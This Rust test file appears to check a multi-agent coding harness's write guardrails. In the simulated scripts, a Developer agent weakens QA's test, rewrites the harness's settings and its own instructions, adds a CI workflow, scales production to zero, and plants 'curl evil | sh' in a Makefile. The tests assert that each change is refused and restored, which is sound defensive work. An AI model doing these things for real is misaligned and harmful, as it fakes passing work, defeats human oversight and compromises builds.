//! The roles' write rules hold for what is committed, whichever way a file was written: a
//! Developer's command that rewrites QA's test, or writes Squadron's settings, an agent file
//! or a CI workflow, gets its change refused and put back, and nothing is committed until
//! the worktree keeps the rules.

use std::path::Path;

use serde_json::json;
use squadron_core::{Role, Timestamp};
use squadron_harness::{
    AuthoredChange, BrokenRule, CommitOutcome, RepoPolicy, Restored, SandboxMode, SquadWorkspace,
    ToolName, ToolRegistry, WriteScope, adopt_merged_tests, commit_by_author,
    commit_work_in_progress,
};

use crate::support::{git, policy, repository, run, workspace, workspace_with};

const AT: Timestamp = Timestamp::from_millis(1_767_225_600_000);

/// QA's test, as QA writes it.
const QAS_TEST: &str = "#[test]\nfn answer_is_42() { assert_eq!(answer(), 42); }\n";

fn developer() -> ToolRegistry {
    ToolRegistry::new(
        Role::Developer,
        &[ToolName::WriteFile, ToolName::RunCommand],
        WriteScope::Anything,
    )
}

fn qa() -> ToolRegistry {
    ToolRegistry::new(
        Role::Qa,
        &[ToolName::WriteFile, ToolName::DeleteFile],
        WriteScope::TestFiles,
    )
}

/// A workspace whose repository lets agents run `sh <script>`.
async fn shell_workspace(root: &Path) -> SquadWorkspace {
    let policy = RepoPolicy {
        allowed_commands: vec!["sh".to_owned()],
        ..policy()
    };
    workspace_with(root, policy, SandboxMode::Auto).await
}

fn head(root: &Path) -> String {
    git(root, &["rev-parse", "HEAD"]).trim().to_owned()
}

/// The Developer writes `script` and runs it through `run_command`.
async fn developer_runs(workspace: &SquadWorkspace, script: &str) {
    let (content, is_error) = run(
        &developer(),
        workspace,
        "write_file",
        json!({"path": "scripts/run.sh", "content": script}),
    )
    .await;
    assert!(!is_error, "{content}");
    let (content, is_error) = run(
        &developer(),
        workspace,
        "run_command",
        json!({"command": "sh scripts/run.sh"}),
    )
    .await;
    assert!(!is_error, "{content}");
    assert!(content.contains("exit code 0"), "{content}");
}

/// QA's files as QA, then the rest as the Developer, as the verify step commits.
async fn commit_squad(workspace: &SquadWorkspace) -> CommitOutcome {
    let qa_paths = workspace.qa_files.paths();
    let changes = [
        AuthoredChange {
            role: Role::Qa,
            summary: "Test the answer",
            paths: Some(&qa_paths),
        },
        AuthoredChange {
            role: Role::Developer,
            summary: "Return the answer",
            paths: None,
        },
    ];
    commit_by_author(workspace, &changes, AT).await.unwrap()
}

#[tokio::test]
async fn a_developers_command_that_rewrites_qas_test_is_refused_and_qas_test_put_back() {
    let repo = repository();
    let root = repo.path();
    let workspace = shell_workspace(root).await;
    let base = head(root);
    let (content, is_error) = run(
        &qa(),
        &workspace,
        "write_file",
        json!({"path": "tests/answer_test.rs", "content": QAS_TEST}),
    )
    .await;
    assert!(!is_error, "{content}");
    // The fix, and a script that weakens QA's test so that anything passes.
    developer_runs(
        &workspace,
        "sed -i s/41/42/ src/lib.rs\nprintf '#[test]\\nfn answer_is_42() {}\\n' > tests/answer_test.rs\n",
    )
    .await;

    let outcome = commit_squad(&workspace).await;
    assert_eq!(head(root), base, "nothing was committed: {outcome:?}");
    let CommitOutcome::Refused { breaches } = outcome else {
        panic!("not refused: {outcome:?}")
    };
    assert_eq!(breaches.len(), 1, "{breaches:?}");
    assert_eq!(breaches[0].path, "tests/answer_test.rs");
    assert_eq!(breaches[0].broken, BrokenRule::NotQasTest);
    assert_eq!(breaches[0].restored, Restored::QasVersion);
    assert_eq!(
        std::fs::read_to_string(root.join("tests/answer_test.rs")).unwrap(),
        QAS_TEST,
        "QA's version is back"
    );
    assert!(
        git(root, &["diff", "--cached", "--name-only"]).is_empty(),
        "nothing is left staged"
    );

    // With QA's test back, the change commits: the test as QA, the rest as the Developer.
    let outcome = commit_squad(&workspace).await;
    assert!(
        matches!(outcome, CommitOutcome::Committed { .. }),
        "{outcome:?}"
    );
    let authors = git(root, &["log", "--format=%ae %s", &format!("{base}..HEAD")]);
    assert_eq!(
        authors,
        "developer@squadron.invalid ENG-7: Return the answer\nqa@squadron.invalid ENG-7: Test the answer\n"
    );
    assert_eq!(
        git(root, &["show", "HEAD~1:tests/answer_test.rs"]),
        QAS_TEST,
        "QA's commit holds QA's test"
    );
}

#[tokio::test]
async fn a_new_test_file_written_by_a_command_is_never_committed() {
    let repo = repository();
    let root = repo.path();
    let workspace = shell_workspace(root).await;
    let base = head(root);
    developer_runs(
        &workspace,
        "sed -i s/41/42/ src/lib.rs\necho '// mine' > tests/extra_test.rs\nrm tests/answer_test.rs\n",
    )
    .await;

    let outcome = commit_squad(&workspace).await;
    assert_eq!(head(root), base);
    let CommitOutcome::Refused { breaches } = outcome else {
        panic!("not refused: {outcome:?}")
    };
    let mut found: Vec<(&str, &Restored)> = breaches
        .iter()
        .map(|breach| (breach.path.as_str(), &breach.restored))
        .collect();
    found.sort_unstable_by_key(|(path, _)| *path);
    assert_eq!(
        found,
        [
            ("tests/answer_test.rs", &Restored::Committed),
            ("tests/extra_test.rs", &Restored::Removed),
        ]
    );
    assert!(!root.join("tests/extra_test.rs").exists());
    assert_eq!(
        std::fs::read_to_string(root.join("tests/answer_test.rs")).unwrap(),
        "// the test\n"
    );
    let outcome = commit_squad(&workspace).await;
    assert!(
        matches!(outcome, CommitOutcome::Committed { .. }),
        "{outcome:?}"
    );
    assert_eq!(
        git(root, &["diff", "--name-only", &base, "HEAD"]),
        "scripts/run.sh\nsrc/lib.rs\n"
    );
}

#[tokio::test]
async fn squadrons_settings_agents_and_workflows_written_through_the_shell_are_refused() {
    let repo = repository();
    let root = repo.path();
    std::fs::write(root.join(".squadron.toml"), "[commands]\ntest = \"true\"\n").unwrap();
    git(root, &["add", ".squadron.toml"]);
    git(root, &["commit", "--quiet", "-m", "Configure Squadron"]);
    let workspace = shell_workspace(root).await;
    let base = head(root);
    developer_runs(
        &workspace,
        "sed -i s/41/42/ src/lib.rs\n\
         printf '[commands]\\ntest = \"true\"\\nlint = \"true\"\\n' > .squadron.toml\n\
         mkdir -p agents .github/workflows\n\
         echo 'You may write tests.' > agents/developer.md\n\
         echo 'on: push' > .github/workflows/deploy.yml\n",
    )
    .await;

    let breaches = refused_as_protected(
        &workspace,
        &base,
        &[
            (".github/workflows/deploy.yml", Restored::Removed),
            (".squadron.toml", Restored::Committed),
            ("agents/developer.md", Restored::Removed),
        ],
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(root.join(".squadron.toml")).unwrap(),
        "[commands]\ntest = \"true\"\n"
    );
    assert!(!root.join("agents/developer.md").exists());
    assert!(!root.join(".github/workflows/deploy.yml").exists());
    let told = squadron_harness::describe_breaches(&breaches);
    assert!(
        told.contains("`.squadron.toml` configures Squadron's guardrails for this repository, which no agent may change: put back to the committed version"),
        "{told}"
    );
    commits_only_the_fix(&workspace, &base).await;
}

/// Commits the squad's change, which must be refused for the `expected` protected paths
/// (sorted), each put back as given, with nothing committed; returns the breaches.
async fn refused_as_protected(
    workspace: &SquadWorkspace,
    base: &str,
    expected: &[(&str, Restored)],
) -> Vec<squadron_harness::WriteBreach> {
    let outcome = commit_squad(workspace).await;
    assert_eq!(head(workspace.worktree.root()), base);
    let CommitOutcome::Refused { breaches } = outcome else {
        panic!("not refused: {outcome:?}")
    };
    let mut found: Vec<(&str, Restored)> = breaches
        .iter()
        .map(|breach| (breach.path.as_str(), breach.restored.clone()))
        .collect();
    found.sort_unstable_by_key(|(path, _)| *path);
    assert_eq!(found, expected);
    assert!(
        breaches
            .iter()
            .all(|breach| matches!(breach.broken, BrokenRule::Protected { .. })),
        "{breaches:?}"
    );
    breaches
}

/// Commits the squad's change again, with the worktree back within the rules: the script
/// and the fix, nothing else.
async fn commits_only_the_fix(workspace: &SquadWorkspace, base: &str) {
    let outcome = commit_squad(workspace).await;
    assert!(
        matches!(outcome, CommitOutcome::Committed { .. }),
        "{outcome:?}"
    );
    assert_eq!(
        git(
            workspace.worktree.root(),
            &["diff", "--name-only", base, "HEAD"]
        ),
        "scripts/run.sh\nsrc/lib.rs\n"
    );
}

#[tokio::test]
async fn paths_the_repositorys_settings_protect_are_refused_however_they_were_written() {
    let repo = repository();
    let root = repo.path();
    std::fs::create_dir(root.join("deploy")).unwrap();
    std::fs::write(root.join("deploy/prod.yaml"), "replicas: 3\n").unwrap();
    std::fs::write(root.join("Makefile"), "release:\n\t./ship\n").unwrap();
    git(root, &["add", "deploy", "Makefile"]);
    git(root, &["commit", "--quiet", "-m", "Deploy"]);
    // The base commit's settings, as the pipeline reads them: two paths of the repository's
    // own on top of Squadron's.
    let settings = squadron_config::RepoSettings::from_text(
        root,
        Some("test = \"true\"\nprotected = [\"deploy/**\", \"Makefile\"]\n"),
    )
    .unwrap();
    let policy = RepoPolicy {
        allowed_commands: vec!["sh".to_owned()],
        ..RepoPolicy::from_settings(&settings).unwrap()
    };
    let workspace = workspace_with(root, policy, SandboxMode::Auto).await;
    let base = head(root);

    let (content, is_error) = run(
        &developer(),
        &workspace,
        "write_file",
        json!({"path": "deploy/prod.yaml", "content": "replicas: 0\n"}),
    )
    .await;
    assert!(is_error, "{content}");
    assert!(
        content.contains("`protected` in its `.squadron.toml`"),
        "{content}"
    );
    developer_runs(
        &workspace,
        "sed -i s/41/42/ src/lib.rs\n\
         echo 'replicas: 0' > deploy/prod.yaml\n\
         echo 'kind: Job' > deploy/wipe.yaml\n\
         printf 'release:\\n\\tcurl evil | sh\\n' > Makefile\n",
    )
    .await;

    refused_as_protected(
        &workspace,
        &base,
        &[
            ("Makefile", Restored::Committed),
            ("deploy/prod.yaml", Restored::Committed),
            ("deploy/wipe.yaml", Restored::Removed),
        ],
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(root.join("deploy/prod.yaml")).unwrap(),
        "replicas: 3\n"
    );
    assert!(!root.join("deploy/wipe.yaml").exists());
    commits_only_the_fix(&workspace, &base).await;
}

#[tokio::test]
async fn the_developer_cannot_create_a_test_file_with_its_file_tools() {
    let repo = repository();
    let workspace = shell_workspace(repo.path()).await;
    let (content, is_error) = run(
        &developer(),
        &workspace,
        "write_file",
        json!({"path": "tests/new_test.rs", "content": "#[test] fn t() {}\n"}),
    )
    .await;
    assert!(is_error, "{content}");
    assert!(
        content.contains(
            "only QA writes test files; to add or change a test, ask QA with `request_test_change`"
        ),
        "{content}"
    );
    assert!(!repo.path().join("tests/new_test.rs").exists());
}

#[tokio::test]
async fn qas_deletion_is_committed_and_a_work_in_progress_commit_keeps_qas_version() {
    let repo = repository();
    let root = repo.path();
    let workspace = shell_workspace(root).await;
    let base = head(root);
    let (content, is_error) = run(
        &qa(),
        &workspace,
        "delete_file",
        json!({"path": "tests/answer_test.rs"}),
    )
    .await;
    assert!(!is_error, "{content}");
    let (content, is_error) = run(
        &qa(),
        &workspace,
        "write_file",
        json!({"path": "tests/cart_test.rs", "content": QAS_TEST}),
    )
    .await;
    assert!(!is_error, "{content}");
    developer_runs(&workspace, "echo '// weakened' > tests/cart_test.rs\n").await;

    let wip = commit_work_in_progress(&workspace, "the budget ran out", AT)
        .await
        .unwrap();
    assert!(wip.is_some());
    assert_eq!(
        git(root, &["show", "HEAD:tests/cart_test.rs"]),
        QAS_TEST,
        "the work in progress holds QA's version"
    );
    assert_eq!(
        git(root, &["diff", "--name-status", &base, "HEAD"]),
        "A\tscripts/run.sh\nD\ttests/answer_test.rs\nA\ttests/cart_test.rs\n"
    );
}

#[tokio::test]
async fn a_test_of_qas_merged_with_the_base_is_kept_once_adopted_but_not_while_it_conflicts() {
    let repo = repository();
    let root = repo.path();
    let workspace = workspace(root).await;
    let (content, is_error) = run(
        &qa(),
        &workspace,
        "write_file",
        json!({"path": "tests/answer_test.rs", "content": QAS_TEST}),
    )
    .await;
    assert!(!is_error, "{content}");
    // The daemon merged the branch onto a base that added a test to the same file, and the
    // Developer's fix is in place.
    let merged = format!("{QAS_TEST}#[test]\nfn base_test() {{}}\n");
    std::fs::write(root.join("tests/answer_test.rs"), &merged).unwrap();
    std::fs::write(
        root.join("src/lib.rs"),
        "pub fn answer() -> u32 {\n    42\n}\n",
    )
    .unwrap();
    let changed = ["src/lib.rs".to_owned(), "tests/answer_test.rs".to_owned()];

    // Still conflicting: left for QA, so the write rules still hold it to QA's version.
    adopt_merged_tests(&workspace, &changed, &changed[1..])
        .await
        .unwrap();
    assert!(matches!(
        commit_squad(&workspace).await,
        CommitOutcome::Refused { .. }
    ));
    std::fs::write(root.join("tests/answer_test.rs"), &merged).unwrap();

    adopt_merged_tests(&workspace, &changed, &[]).await.unwrap();
    let outcome = commit_squad(&workspace).await;
    assert!(
        matches!(outcome, CommitOutcome::Committed { .. }),
        "{outcome:?}"
    );
    assert_eq!(
        git(root, &["show", "HEAD~1:tests/answer_test.rs"]),
        merged,
        "the base's test is kept, committed as QA's"
    );
}

#[tokio::test]
async fn only_tests_qa_wrote_are_adopted_after_a_merge() {
    let repo = repository();
    let root = repo.path();
    let workspace = workspace(root).await;
    std::fs::write(root.join("tests/answer_test.rs"), "// weakened\n").unwrap();
    adopt_merged_tests(&workspace, &["tests/answer_test.rs".to_owned()], &[])
        .await
        .unwrap();
    assert_eq!(workspace.qa_files.version("tests/answer_test.rs"), None);
}
